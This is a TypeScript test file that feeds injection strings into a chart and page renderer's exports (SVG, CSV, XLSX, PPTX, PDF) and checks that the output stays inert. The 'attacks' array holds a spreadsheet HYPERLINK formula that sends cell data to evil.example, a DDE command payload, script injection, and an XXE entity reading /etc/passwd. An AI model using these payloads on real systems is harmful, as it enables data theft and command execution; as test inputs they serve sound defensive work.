import type { ChartModel } from '@cg/charts/model'
import { pageFrom } from '@cg/charts/page/page'
import { ChartRefusal } from '@cg/charts/refusal'
import { gallery } from '@cg/charts/testing/gallery'
import { pageAnswers } from '@cg/charts/testing/page-fixture'
import { pageNames } from '@cg/contract/page-choices'
import { must } from '@cg/domain/must'
import JSZip from 'jszip'
import { describe, expect, test } from 'vitest'
import { renderPage } from './page/render-page.ts'
import { renderChart } from './render.ts'
import { stampChart } from '@cg/charts/stamp'
import { checkPptx } from './slides/check.ts'
import { illFormed } from './well-formed.ts'
import { readCsv } from './workbook/csv-grid.ts'

/* Every text of every chart and page at once is what somebody typed to do harm: each format stays a file of texts. */

const char = (code: number): string => String.fromCodePoint(code)
const turned = `${char(0x202e)}321${char(0x202c)}`

const attacks = [
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(A1:A9)',
  `${char(9)}=1+1`,
  `${char(13)}${char(10)}=1+1,"x`,
  '</text><script>alert(1)</script><text>',
  '"><a:fld type="x"/>&amp;&#x41;]]><![CDATA[',
  '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
  '#import "/etc/passwd": *; #read("x") $x$ \\u{202e} ] ) }',
  '{a|b}{b|c}${7*7}<%= 7 %>',
  turned,
  `零宽${char(0x200b)}${char(0xfeff)}${char(0)}${char(7)}${char(0x1b)}字`,
  `半个${char(0xd800)}代理`,
  '很长的名称'.repeat(60),
] as const

/** No committed font has half a letter: pictures and paper refuse it by name. */
const drawable = attacks.filter((attack) => !attack.includes('代理'))

/** The value with each of its Chinese texts followed by an attack, the same for the same text: what refers to a text still finds it. */
function poisoned<T>(value: T, seed: number, by: readonly string[] = attacks): T {
  return poison(value, seed, by) as T
}

function poison(value: unknown, seed: number, by: readonly string[]): unknown {
  if (typeof value === 'string') return /[\u4e00-\u9fff]/.test(value) ? harmful(value, seed, by) : value
  if (Array.isArray(value)) return value.map((part) => poison(part, seed, by))
  if (value === null || typeof value !== 'object') return value
  return Object.fromEntries(Object.entries(value).map(([key, part]) => [key, poison(part, seed, by)]))
}

function harmful(text: string, seed: number, by: readonly string[]): string {
  const sum = Array.from(text).reduce((total, letter) => total + (letter.codePointAt(0) ?? 0), seed)
  const attack = must(by[sum % by.length])
  return sum % 2 === 0 ? `${attack}${text}` : `${text}${attack}`
}

/** Marks that turn or hide text, controls, halves of letters. */
const unclean = new RegExp(
  `[${char(0)}-${char(8)}${char(11)}${char(12)}${char(14)}-${char(31)}${char(0x200b)}-${char(0x200f)}${char(0x202a)}-${char(0x202e)}${char(0xfeff)}]`,
  'u',
)

const stamp = { code: 'KRNQCWMRFC', link: 'https://cg.example.gov.cn/materials/check?c=KRNQCWMRFC' }
const models = gallery().flatMap((model) =>
  [0, 1].map((seed) => [`${model.kind} ${seed}`, stampChart(poisoned(model, seed), stamp)] as const),
)

async function text(model: ChartModel, format: 'svg' | 'csv'): Promise<string> {
  return Buffer.from((await renderChart(model, { format })).bytes).toString('utf8')
}

async function parts(bytes: Uint8Array): Promise<[name: string, xml: string][]> {
  const zip = await JSZip.loadAsync(bytes)
  const names = Object.keys(zip.files).filter((name) => /\.(xml|rels)$/.test(name))
  return Promise.all(names.map(async (name) => [name, await must(zip.file(name)).async('string')]))
}

function expectInert(xml: string, name: string): void {
  expect(illFormed(xml), name).toBeNull()
  expect(unclean.exec(xml), name).toBeNull()
  expect(/<script|<!DOCTYPE|<!ENTITY|<foreignObject|\son\w+=|javascript:/i.exec(xml), name).toBeNull()
}

describe.each(models)('%s', { timeout: 120_000 }, (_, model) => {
  test('SVG: no element but ours, nothing that runs', async () => {
    const svg = await text(model, 'svg')
    expectInert(svg, 'svg')
    const elements = new Set([...svg.matchAll(/<([\w:]+)/g)].map((match) => match[1]))
    const known = [
      'svg',
      'title',
      'desc',
      'metadata',
      'g',
      'text',
      'tspan',
      'path',
      'rect',
      'circle',
      'ellipse',
      'defs',
    ]
    const drawing = ['polygon', 'polyline', 'line', 'clipPath', 'linearGradient', 'stop', 'pattern', 'use']
    expect([...elements].filter((name) => ![...known, ...drawing].includes(name ?? ''))).toEqual([])
  })

  test('CSV and XLSX: no cell is a formula', async () => {
    const book = readCsv(new TextEncoder().encode(await text(model, 'csv')))
    if (!book.ok) throw new Error(book.reason)
    const cells = book.sheets.flatMap(({ rows }) => rows.flat()).map(String)
    const isNumber = (cell: string) => /^[+-]?[\d.]+$/.test(cell)
    expect(cells.filter((cell) => /^\s*[=+\-@]/.test(cell) && !isNumber(cell))).toEqual([])
    expect(cells.find((cell) => unclean.test(cell))).toBeUndefined()
    const { bytes } = await renderChart(model, { format: 'xlsx' })
    for (const [name, xml] of await parts(bytes)) {
      expectInert(xml, name)
      if (name.startsWith('xl/worksheets/')) expect(/<f\b/.exec(xml), name).toBeNull()
      if (name === 'xl/sharedStrings.xml')
        for (const [, words = ''] of xml.matchAll(/<t(?:\s[^>]*)?>([^<]*)</g)) expect(words).not.toMatch(/^\s*[=+@]/)
    }
  })

  test('PPTX: whole, sound, no field and no link but ours', async () => {
    const { bytes } = await renderChart(model, { format: 'pptx' })
    expect(await checkPptx(bytes)).toEqual([])
    for (const [name, xml] of await parts(bytes)) {
      expectInert(xml, name)
      if (name.startsWith('ppt/slides/'))
        expect([...xml.matchAll(/<a:fld[^>]*type="x"|TargetMode="External"/g)]).toEqual([])
    }
  })

  test('picture: shapes and nothing else', async () => {
    const kind = must(gallery().find((one) => one.kind === model.kind))
    const { bytes } = await renderChart(poisoned(kind, 2, drawable), { format: 'svg', letters: 'outlines' })
    expectInert(Buffer.from(bytes).toString('utf8'), 'outlines')
  })
})

describe.each(pageNames)('page %s', { timeout: 120_000 }, (name) => {
  const unit = must(pageAnswers.unit.matrix.units.code[0])
  const page = () => poisoned(pageFrom(pageAnswers[name], name === 'unit' ? { unit } : {}, null), 3, drawable)

  test('PDF: set as text, nothing of it is read as source', async () => {
    const { bytes } = await renderPage(page(), 'pdf')
    expect(Buffer.from(bytes.subarray(0, 5)).toString('latin1')).toBe('%PDF-')
    expect(Buffer.from(bytes).includes('/JavaScript')).toBe(false)
  })

  test('PPTX: whole and sound', async () => {
    const { bytes } = await renderPage(page(), 'pptx')
    expect(await checkPptx(bytes)).toEqual([])
    for (const [part, xml] of await parts(bytes)) expectInert(xml, part)
  })
})

test('an emoji is drawn by no committed font: pictures and paper refuse it by name, files of text keep it', async () => {
  const [model] = gallery()
  const smiling = { ...must(model), title: '完成得好😀' }
  await expect(renderChart(smiling, { format: 'png' })).rejects.toThrow(ChartRefusal)
  await expect(renderChart(smiling, { format: 'png' })).rejects.toThrow('“😀”（U+1F600）')
  for (const format of ['svg', 'csv'] as const) expect(await text(smiling, format)).toContain('😀')
})
